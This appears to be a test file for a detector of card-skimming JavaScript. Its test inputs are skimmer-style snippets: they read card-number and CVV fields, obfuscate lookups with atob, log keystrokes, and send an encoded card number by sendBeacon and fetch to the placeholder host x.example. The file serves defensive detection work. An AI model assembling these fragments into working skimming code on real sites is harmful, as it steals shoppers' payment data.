import { describe, expect, test } from 'vitest';
import { classifyLookup } from './sources.js';
import { Facts } from '../engine/facts.js';
import { parseSource } from '../engine/parse.js';
import { VisitorMap, walkProgram } from '../engine/walk.js';
import { ProgramModel } from './model.js';

function model(code: string) {
  const facts = new Facts(false);
  walkProgram(parseSource(code).ast as any, facts, new VisitorMap());
  return new ProgramModel(facts);
}

describe('classifyLookup', () => {
  test('by id, name, selector, tag', () => {
    expect(classifyLookup('getElementById', 'cc-number')?.cls).toBe('card');
    expect(classifyLookup('getElementsByName', 'billing_city')?.cls).toBe('personal');
    expect(classifyLookup('querySelectorAll', 'input, select')?.cls).toBe('sweep');
    expect(classifyLookup('getElementsByTagName', 'input')?.cls).toBe('sweep');
    expect(classifyLookup('$', '#cvv')?.role).toBe('cvv');
    expect(classifyLookup('getElementById', 'search')).toBeNull();
  });
  test('by class name and XPath', () => {
    expect(classifyLookup('getElementsByClassName', 'form-control cc-number-input')?.role).toBe('card-number');
    expect(classifyLookup('getElementsByClassName', 'card card-body')).toBeNull();
    expect(classifyLookup('evaluate', '//input[@name="payment[cc_number]"]')?.role).toBe('card-number');
    expect(classifyLookup('evaluate', "//form[@id='checkout']//input")?.cls).toBe('sweep');
    expect(classifyLookup('evaluate', '//div[@class="price"]')).toBeNull();
    expect(classifyLookup('evaluate', "//input[@type='hidden']")).toBeNull();
  });
});

describe('source recognition in code', () => {
  test.each([
    ["document.getElementById('cc-number').value", 'card'],
    ["jQuery('#payment_cc_cid').val()", 'card'],
    ["document.forms[0].elements['cc_number'].value", 'card'],
    ["var f = document.querySelector('form'); new FormData(f)", 'sweep'],
    ["$('#checkout').serialize()", 'sweep'],
    ["document.addEventListener('keyup', function(e){ k += e.key; })", 'sweep'],
    ["function q(n){ return document.querySelector('[name=\"payment[' + n + ']\"]'); } q('cc_number');", 'card'],
    ["['cc-number','cvv'].forEach(function(id){ document.getElementById(id); });", 'card'],
    ["document[atob('Z2V0RWxlbWVudEJ5SWQ=')]('card_number')", 'card'],
    ["['cc_number', 'cc_cid'].forEach(function (n) { f.elements[`payment[${n}]`].value; })", 'card'],
    ["document.addEventListener('submit', function (e) { e.target.elements; })", 'sweep'],
    ["self.addEventListener('fetch', function (e) { e.request.clone().text(); })", 'sweep'],
    ["document.evaluate('//input[@id=\"cvv\"]', document, null, 9, null).singleNodeValue.value", 'card'],
  ])('%s -> %s', (code, cls) => {
    expect(model(code).sources().map((s) => s.cls)).toContain(cls);
  });
  test.each([
    "document.getElementById('search').value",
    "var o = { cardNumber: 1 }; o.cardNumber;",
    "new FormData()",
    "el.addEventListener('keyup', function(e){ check(e.target.value); })",
    "fetch('/api').then(function (r) { return r.json(); })",
    "self.addEventListener('message', function (e) { e.data.request.text(); })",
    "parser.evaluate('//input[@name=\"cc_number\"]')",
    "this.elements[key].refresh()",
  ])('no source: %s', (code) => expect(model(code).sources()).toEqual([]));
});

describe('flows', () => {
  test('payment read through variables, a helper and an encoder reaches the sink', () => {
    const m = model(`function send(d){ navigator.sendBeacon('https://x.example/b', d); }
var v = document.getElementById('cc-number').value; var p = btoa(v); send(p);`);
    const f = m.flows().find((x) => x.sink.kind === 'beacon')!;
    expect(f.card?.source.role).toBe('card-number');
    expect(f.card?.encoding?.name).toBe('btoa');
  });
  test('unrelated data does not flow', () => {
    const m = model(`var v = document.getElementById('cc-number').value; var ok = v.length; fetch('https://x.example/', {body: String(Date.now())});`);
    expect(m.flows().every((x) => !x.card)).toBe(true);
  });
  test('storage staging links writes to reads', () => {
    const m = model(`localStorage.setItem('k', document.getElementById('cvv').value); fetch('https://x.example/', {method:'POST', body: localStorage.getItem('k')});`);
    expect(m.flows().find((x) => x.sink.kind === 'fetch')?.card).toBeTruthy();
  });
});
